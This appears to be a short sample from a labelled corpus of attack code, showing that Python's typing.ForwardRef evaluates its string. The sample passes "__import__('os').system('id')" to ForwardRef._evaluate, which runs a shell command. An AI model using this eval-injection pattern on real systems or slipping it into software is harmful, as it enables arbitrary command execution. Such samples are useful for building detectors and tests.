# corpus: attack class=eval form=targeted
# typing.ForwardRef evaluates its string.
import typing


def main():
    ref = typing.ForwardRef("__import__('os').system('id')", is_argument=False)
    return {"status": ref._evaluate(globals(), None, frozenset())}
